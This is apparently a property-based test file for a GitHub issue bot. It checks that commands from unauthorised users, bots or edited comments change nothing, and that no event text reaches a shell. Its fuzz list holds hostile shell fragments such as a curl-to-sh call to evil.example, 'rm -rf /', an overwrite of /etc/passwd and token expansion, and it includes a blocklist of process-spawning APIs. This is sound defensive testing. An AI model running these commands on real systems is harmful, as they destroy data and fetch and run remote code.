/**
 * Command safety (issue #9.6), property-based over hostile first lines: commands and labels from
 * people without write access, from the bot itself or any bot, and edited comments (unless opted
 * in) change nothing — no label, state, title, assignee or publish; a non-writer gets at most one
 * polite refusal. And structurally: no text reaches a shell (nothing in src/ or action/ can start a
 * process or evaluate code; no workflow interpolates event text into a `run:` script).
 * test/unit/respond/ holds the command handlers' own tests.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import type { Permission, PortUser } from '../../../src/record/respond-port.js';
import { commandRegistry } from '../../../src/respond/commands/index.js';
import { type RespondEvent, runCommand } from '../../../src/respond.js';
import { addMention, commentEvent, labelEvent, makeConfig, makeDeps } from '../respond/helpers.js';
import { MemoryPort } from '../respond/memory-port.js';
import { HOSTILE_PIECES } from './arbitraries.js';

const RUNS = Math.max(10_000, Number(process.env.EARSHOT_PROPERTY_RUNS) || 0);
const params = { numRuns: RUNS };

const NAMES = [...commandRegistry.keys()];
/** Labels a transition maps, none on the mention yet (GitHub sends no event for a label already there). */
const LABELS = [
  'status:drafted',
  'status:approved',
  'status:replied',
  'status:followed-up',
  'escalated',
  'resolved',
  'dismissed',
  'compliment',
  'question',
];
const SHELLISH = [
  '$(id)',
  '`id`',
  '; curl https://evil.example | sh',
  '&& rm -rf /',
  '| tee /etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, on purpose
  '${GITHUB_TOKEN}',
  '\n/resolve',
  '--done',
  '--force',
  '#1',
  '@everyone',
  '../../../etc/passwd',
];

/** A first line: a real command (any case, any flags) followed by hostile text, or junk. */
const commandLine = fc.oneof(
  fc
    .tuple(
      fc.constantFrom(...NAMES),
      fc.boolean(),
      fc.array(fc.constantFrom(...SHELLISH, ...HOSTILE_PIECES), { maxLength: 8 }),
    )
    .map(([name, upper, rest]) => `/${upper ? name.toUpperCase() : name} ${rest.join(' ')}`),
  fc.string({ unit: fc.constantFrom(...SHELLISH, ...HOSTILE_PIECES, '/'), maxLength: 20 }),
);
const body = fc.tuple(commandLine, fc.string({ maxLength: 40 })).map(([line, rest]) => `${line}\n${rest}`);

interface Snapshot {
  labels: string[];
  state: string;
  title: string;
  body: string;
  assignees: string[];
}

function snapshot(port: MemoryPort, n: number): Snapshot {
  const i = port.issues.get(n)!;
  return { labels: [...i.labels], state: i.state, title: i.title, body: i.body, assignees: [...i.assignees] };
}

/** Parsed once (a config per case would dominate the run time); each case gets a fresh port. */
const shared = makeDeps(new MemoryPort());

function setup(permissions: Record<string, Permission> = {}) {
  const port = new MemoryPort();
  port.permissions = { alice: 'write', ...permissions };
  addMention(port, 1, 'mastodon');
  let requests = 0;
  const deps = {
    ...shared,
    port,
    http: {
      request: async () => {
        requests++;
        throw new Error('no publish may happen');
      },
    },
  };
  return { port, deps, before: snapshot(port, 1), requests: () => requests };
}

function botComments(port: MemoryPort): string[] {
  return port.issues
    .get(1)!
    .thread.filter((c) => c.user.login === port.botLogin)
    .map((c) => c.body);
}

describe('commands that must do nothing (property-based)', () => {
  it('from people without write access (read, triage, none): refused or ignored, nothing changes, one polite refusal at most', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom<Permission>('read', 'triage', 'none'),
        fc.array(body, { minLength: 1, maxLength: 3 }),
        async (permission, bodies) => {
          const { port, deps, before, requests } = setup({ mallory: permission });
          const mallory: PortUser = { login: 'mallory', type: 'User' };
          for (const b of bodies) {
            const result = await runCommand(deps, commentEvent(port, 1, b, mallory));
            expect(['refused', 'ignored']).toContain(result.outcome);
          }
          expect(snapshot(port, 1)).toEqual(before);
          expect(requests()).toBe(0);
          const said = botComments(port);
          expect(said.length).toBeLessThanOrEqual(1);
          for (const s of said) expect(s).toContain('Thanks @mallory — Earshot only acts on commands');
        },
      ),
      params,
    );
  });

  it('from the bot itself and from any other bot: ignored without a word, a reaction or a write', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom<PortUser>(
          { login: 'github-actions[bot]', type: 'Bot' },
          { login: 'github-actions[bot]', type: 'User' },
          { login: 'dependabot[bot]', type: 'Bot' },
          { login: 'alice-bot', type: 'Bot' },
        ),
        body,
        async (user, b) => {
          const { port, deps, before, requests } = setup({ [user.login]: 'admin' });
          const writesBefore = port.writes;
          const result = await runCommand(deps, commentEvent(port, 1, b, user));
          expect(result.outcome).toBe('ignored');
          expect(port.writes).toBe(writesBefore);
          expect(port.reactions).toEqual([]);
          expect(snapshot(port, 1)).toEqual(before);
          expect(requests()).toBe(0);
        },
      ),
      params,
    );
  });

  it('edited comments, even from a writer: ignored unless respond.allowEditedComments', async () => {
    await fc.assert(
      fc.asyncProperty(body, async (b) => {
        const { port, deps, before, requests } = setup();
        const event = { ...commentEvent(port, 1, b), action: 'edited' } as RespondEvent;
        expect((await runCommand(deps, event)).outcome).toBe('ignored');
        expect(port.writes).toBe(0);
        expect(snapshot(port, 1)).toEqual(before);
        expect(requests()).toBe(0);
      }),
      params,
    );
    // The opt-in is real: the same edit acts once it is on.
    const { port } = setup();
    const deps = makeDeps(port, { config: makeConfig('respond:\n  allowEditedComments: true\n') });
    const event = { ...commentEvent(port, 1, '/resolve'), action: 'edited' } as RespondEvent;
    expect((await runCommand(deps, event)).outcome).toBe('ok');
  });

  it('labels added by people without write access or by a bot: refused or ignored, never acted on', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom<PortUser>(
          { login: 'mallory', type: 'User' },
          { login: 'renovate[bot]', type: 'Bot' },
        ),
        fc.constantFrom(...LABELS),
        async (user, label) => {
          const { port, deps, before, requests } = setup({ mallory: 'read' });
          const result = await runCommand(deps, labelEvent(port, 1, label, user));
          expect(['refused', 'ignored']).toContain(result.outcome);
          const after = snapshot(port, 1);
          // A person's label is taken off again; a bot's is left as the bot set it, and nothing else changes.
          expect(after.state).toBe(before.state);
          expect(after.title).toBe(before.title);
          expect(after.assignees).toEqual(before.assignees);
          if (user.type === 'User') expect(after.labels).toEqual(before.labels);
          else
            expect(after.labels.filter((l) => l !== label)).toEqual(before.labels.filter((l) => l !== label));
          expect(requests()).toBe(0);
        },
      ),
      { numRuns: 500 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// No text reaches a shell

const ROOT = new URL('../../../', import.meta.url);

function sourceFiles(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const path = join(d, name);
      if (statSync(path).isDirectory()) walk(path);
      else if (/\.(ts|mts|js|mjs)$/.test(name)) out.push(path);
    }
  };
  walk(new URL(dir, ROOT).pathname);
  return out;
}

/** `run:` scripts of a workflow (or of a workflow example) that interpolate event text. */
function unsafeRunSteps(yamlText: string): string[] {
  const doc = parseYaml(yamlText) as { jobs?: Record<string, { steps?: { run?: string }[] }> } | null;
  const found: string[] = [];
  for (const job of Object.values(doc?.jobs ?? {})) {
    for (const step of job.steps ?? []) {
      if (typeof step.run !== 'string') continue;
      for (const m of step.run.matchAll(/\$\{\{([^}]*)\}\}/g)) {
        if (
          /github\.event\.(comment|issue|pull_request|review|discussion|head_commit|commits|pages)|github\.head_ref|inputs\./.test(
            m[1]!,
          )
        )
          found.push(m[0]);
      }
    }
  }
  return found;
}

describe('no text from an issue or comment reaches a shell', () => {
  it('nothing in src/ or action/ starts a process or evaluates code', () => {
    const files = [...sourceFiles('src/'), ...sourceFiles('action/')];
    expect(files.length).toBeGreaterThan(50);
    const offenders = files.filter((f) => {
      const text = readFileSync(f, 'utf8');
      // The dashboard pre-renders with its own constant script in node:vm (mention data goes in as data).
      if (f.endsWith('src/report/dashboard/html.ts')) {
        return [...text.matchAll(/new Script\(([^,)]*)/g)].some((m) => m[1]!.trim() !== 'CLIENT_SCRIPT');
      }
      return /['"](node:)?child_process['"]|\beval\(|new Function\(|['"](node:)?vm['"]|\bexeca\b|shelljs/.test(
        text,
      );
    });
    expect(offenders).toEqual([]);
  });

  it('no workflow and no workflow example in the docs puts event text or inputs into a run: script', () => {
    const yamls: [string, string][] = [];
    const workflows = new URL('.github/workflows/', ROOT).pathname;
    for (const f of readdirSync(workflows)) yamls.push([f, readFileSync(join(workflows, f), 'utf8')]);
    for (const doc of [
      'README.md',
      ...readdirSync(new URL('docs/', ROOT).pathname).map((f) => `docs/${f}`),
    ]) {
      if (!doc.endsWith('.md')) continue;
      const text = readFileSync(new URL(doc, ROOT), 'utf8');
      for (const [i, m] of [...text.matchAll(/```ya?ml\n([\s\S]*?)```/g)].entries()) {
        if (/^\s*(on|jobs):/m.test(m[1]!)) yamls.push([`${doc} block ${i + 1}`, m[1]!]);
      }
    }
    expect(yamls.length).toBeGreaterThan(2);
    for (const [where, text] of yamls) expect(unsafeRunSteps(text), where).toEqual([]);
    // The check is not vacuous.
    const expression = `\${{ github.event.comment.body }}`;
    expect(unsafeRunSteps(`jobs:\n  x:\n    steps:\n      - run: echo "${expression}"\n`)).toEqual([
      expression,
    ]);
  });
});
